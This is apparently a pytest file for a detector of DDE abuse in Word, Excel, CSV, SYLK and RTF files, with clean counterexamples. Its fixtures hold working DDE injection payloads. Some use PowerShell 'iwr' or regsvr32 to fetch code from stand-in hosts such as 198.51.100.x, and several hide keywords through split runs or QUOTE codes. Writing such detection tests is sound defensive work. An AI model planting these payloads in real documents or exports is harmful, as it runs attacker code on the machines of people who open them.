"""DDE in Word fields, Excel links and CSV/SYLK formulas; ordinary fields and workbook links stay clean."""

import pytest

from kakuri.detect.office_dde import OfficeDde
from tests.builders_office import doc_with_text, docx, office_findings, plain_rtf, sylk, symbols_of, xlsx, xlsx_by_xlsxwriter

DETECTOR = [OfficeDde()]
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _field_runs(*pieces: str) -> str:
    """A complex field whose instruction is split across runs, as Word writes it after edits."""
    runs = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    runs += "".join(f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in pieces)
    runs += '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>!Unexpected End of Formula</w:t></w:r>'
    return f"<w:p>{runs}<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"


def test_ddeauto_field_split_across_runs_is_flagged():
    body = _field_runs(' DDEAU', 'TO "C:\\\\Programs\\\\Microsoft\\\\Office\\\\MSWord.exe\\\\..\\\\..\\\\..\\\\..\\\\windows\\\\system32\\\\cmd.exe" ',
                       '"/c powershell -w hidden iwr http://198.51.100.3/p"')
    findings = office_findings(DETECTOR, [("notice.docx", docx(body))])
    assert symbols_of(findings) == {"OFFICE_DDE"}
    assert "cmd.exe" in findings[0].evidence["commands"]


def test_dde_keyword_split_inside_the_word_is_flagged():
    body = _field_runs("D", "DE", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"")
    assert symbols_of(office_findings(DETECTOR, [("a.docx", docx(body))])) == {"OFFICE_DDE"}


def test_ddeauto_field_in_word97_doc_is_flagged():
    text = 'Dear customer\r\x13 DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" \x14Loading\x15\r'
    findings = office_findings(DETECTOR, [("a.doc", doc_with_text(text))])
    assert symbols_of(findings) == {"OFFICE_DDE"} and "cmd.exe" in findings[0].evidence["commands"]


def test_word97_doc_mentioning_dde_in_plain_text_is_clean():
    text = "We added the hidden DDE settings to the manual.\r\x13 PAGE \x141\x15\r"
    assert office_findings(DETECTOR, [("manual.doc", doc_with_text(text))]) == []


def test_dde_in_fldsimple_is_flagged():
    body = '<w:p><w:fldSimple w:instr=\'DDE "cmd.exe" "/c calc" \'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    assert symbols_of(office_findings(DETECTOR, [("a.docx", docx(body))])) == {"OFFICE_DDE"}


def test_excel_ddelink_is_flagged_but_external_workbook_link_is_not():
    dde = ('<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" '
           'ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>')
    book = ('<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1">'
            '<sheetNames><sheetName val="Prices"/></sheetNames></externalBook></externalLink>')
    flagged = office_findings(DETECTOR, [("a.xlsx", xlsx(extra={"xl/externalLinks/externalLink1.xml": dde}))])
    assert symbols_of(flagged) == {"OFFICE_DDE"} and "cmd|/c calc.exe" in flagged[0].evidence["commands"]
    assert office_findings(DETECTOR, [("b.xlsx", xlsx(extra={"xl/externalLinks/externalLink1.xml": book}))]) == []


@pytest.mark.parametrize("text", [
    "name,amount\r\nx,=cmd|' /c calc.exe'!A0\r\n",
    "a;b\r\n@SUM(1+1)*cmd|' /C powershell IEX(wget 0.0.0.0/x)'!A0;2\r\n",
    '=MSEXCEL|\'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://198.51.100.1/x.sct scrobj.dll\'!\'\'\r\n',
])
def test_csv_dde_formula_is_flagged(text):
    assert symbols_of(office_findings(DETECTOR, [("export.csv", text.encode())])) == {"OFFICE_DDE"}


def test_sylk_dde_formula_is_flagged():
    data = sylk(["cmd|' /c calc'!A0"], macro_sheet=False, auto_open=False).replace(b";E", b";E=")
    assert symbols_of(office_findings(DETECTOR, [("a.slk", data)])) == {"OFFICE_DDE"}


def test_rtf_ddeauto_field_is_flagged():
    rtf = b'{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"}{\\fldrslt x}}}'
    assert symbols_of(office_findings(DETECTOR, [("a.rtf", rtf)])) == {"OFFICE_DDE"}


@pytest.mark.parametrize("name, data", [
    ("toc.docx", docx(_field_runs(" PAGE ", "\\* MERGEFORMAT "))),
    ("hidden.docx", docx('<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>hidden text about a ladder</w:t></w:r></w:p>')),
    ("prices.csv", b"item,price,note\r\nA,100,a|b pipes are fine\r\nB,-5,=A1+B1\r\n"),
    ("見積.xlsx", xlsx_by_xlsxwriter()),
    ("memo.rtf", plain_rtf()),
])
def test_ordinary_fields_formulas_and_text_stay_clean(name, data):
    assert office_findings(DETECTOR, [(name, data)]) == []


# ---------------------------------------------------------------- where DDE really hides (issue 12)

from tests.builders_office import spreadsheetml, supbook_link, word2003_xml, xls_with_links  # noqa: E402


def _runs_2003(*pieces: str) -> str:
    runs = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    runs += "".join(f"<w:r><w:instrText>{p}</w:instrText></w:r>" for p in pieces)
    return f'<w:p>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def test_word2003_xml_field_split_over_runs_is_flagged():
    body = _runs_2003("DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe", ' "/k calc.exe"')
    findings = office_findings(DETECTOR, [("a.doc", word2003_xml(body))])
    assert symbols_of(findings) == {"OFFICE_DDE"} and "cmd.exe" in findings[0].evidence["commands"]


def test_quote_character_codes_spelling_dde_are_decoded():
    codes = " ".join(str(ord(c)) for c in "DDEAUTO")
    body = _runs_2003(f"QUOTE {codes}", ' c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"')
    assert symbols_of(office_findings(DETECTOR, [("a.xml", word2003_xml(body))])) == {"OFFICE_DDE"}
    harmless = _runs_2003("QUOTE 72 105")  # QUOTE used for what it is for: "Hi"
    assert office_findings(DETECTOR, [("a.xml", word2003_xml(harmless))]) == []


def test_utf16_doc_field_is_flagged():
    text = '\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" \x14\x15 견적서\r'
    findings = office_findings(DETECTOR, [("견적서.doc", doc_with_text(text, "utf-16-le"))])
    assert symbols_of(findings) == {"OFFICE_DDE"} and "cmd.exe" in findings[0].evidence["commands"]


def test_xls_external_name_of_a_dde_source_is_flagged():
    data = xls_with_links(supbook_link("cmd\x03/c powershell -w hidden iwr http://198.51.100.5/a", items=("A0",)))
    findings = office_findings(DETECTOR, [("a.xls", data)])
    assert symbols_of(findings) == {"OFFICE_DDE"}
    assert findings[0].evidence["commands"] == "cmd|'/c powershell -w hidden iwr http://198.51.100.5/a'!A0"


def test_xls_link_to_another_workbook_is_not_dde():
    data = xls_with_links(supbook_link("\x01D\x02Share\x02Budget.xls", ctab=1, items=("Total",)))
    assert office_findings(DETECTOR, [("a.xls", data)]) == []


@pytest.mark.parametrize("formula", ["=cmd|' /c calc.exe'!A1", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
                                     '=DDE("cmd";"/c calc";"__DdeLink_60_870516294")'])
def test_spreadsheetml_dde_formula_is_flagged(formula):
    assert symbols_of(office_findings(DETECTOR, [("a.xml", spreadsheetml([formula]))])) == {"OFFICE_DDE"}


def test_spreadsheetml_with_ordinary_formulas_is_clean():
    assert office_findings(DETECTOR, [("a.xml", spreadsheetml(["=SUM(R[-2]C:R[-1]C)", "=IF(A1>0,\"ok\",\"\")"]))]) == []


@pytest.mark.parametrize("line", ["@SUM(1+1)*cmd|' /C calc'!A0", '"=DDE(""cmd"";""/C calc"";""A0"")"'])
def test_csv_dde_variants_are_flagged(line):
    csv = f"id,name,total\r\n1,{line},3\r\n".encode()
    assert symbols_of(office_findings(DETECTOR, [("orders.csv", csv)])) == {"OFFICE_DDE"}


def test_doc_field_with_nested_quote_result_is_flagged():
    # Word stores the nested field's result ("cmd") in the outer instruction when it evaluates it.
    text = '\x13DDEAUTO \x13QUOTE 99 109 100\x14cmd\x15 "/c calc"\x14\x15Invoice\r'
    findings = office_findings(DETECTOR, [("a.doc", doc_with_text(text))])
    assert symbols_of(findings) == {"OFFICE_DDE"} and "cmd" in findings[0].evidence["commands"]


def test_rtf_field_split_over_groups_is_flagged_and_ordinary_fields_are_not():
    rtf = (rb"{\rtf1\ansi{\field{\*\fldinst {\rtlch\fcs1 DD}{\rtlch EAUTO c:\\windows\\system32\\cmd.exe "
           rb"\'22/c calc\'22}}{\fldrslt }}\par{\field{\*\fldinst PAGE}{\fldrslt 1}}}")
    findings = office_findings(DETECTOR, [("a.rtf", rtf)])
    assert symbols_of(findings) == {"OFFICE_DDE"}
    assert findings[0].evidence["commands"] == 'DDEAUTO c:\\windows\\system32\\cmd.exe "/c calc"'
    plain = rb"{\rtf1{\field{\*\fldinst HYPERLINK \\l _Toc1 \\o quote}{\fldrslt x}}}"
    assert office_findings(DETECTOR, [("a.rtf", plain)]) == []


def test_sylk_cell_formula_running_a_program_is_dde():
    data = sylk(["MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''"], macro_sheet=False, auto_open=False)
    assert symbols_of(office_findings(DETECTOR, [("a.slk", data)])) == {"OFFICE_DDE"}
    assert office_findings(DETECTOR, [("a.slk", sylk(["SUM(R1C2:R3C2)"], macro_sheet=False, auto_open=False))]) == []


def test_dde_formula_typed_into_an_xlsx_cell_is_flagged():
    sheet = '<sheetData><row r="1"><c r="A1"><f>cmd|\'/c powershell -w hidden iwr http://198.51.100.2/a\'!A1</f></c></row></sheetData>'
    assert symbols_of(office_findings(DETECTOR, [("a.xlsx", xlsx(sheet_xml=sheet))])) == {"OFFICE_DDE"}


def test_pipe_inside_a_string_literal_is_not_dde():
    sheet = ('<sheetData><row r="1"><c r="A1"><f>IF(B1="in|out",Sheet2!C1,"")</f></c>'
             '<c r="A2"><f>B1&amp;"|"&amp;Sheet2!D1</f></c></row></sheetData>')
    assert office_findings(DETECTOR, [("a.xlsx", xlsx(sheet_xml=sheet))]) == []
    csv = b'id,formula,note\r\n1,"=IF(A1=""a|b"",Data!B2,0)",x\r\n2,plain|text!,y\r\n'
    assert office_findings(DETECTOR, [("a.csv", csv)]) == []
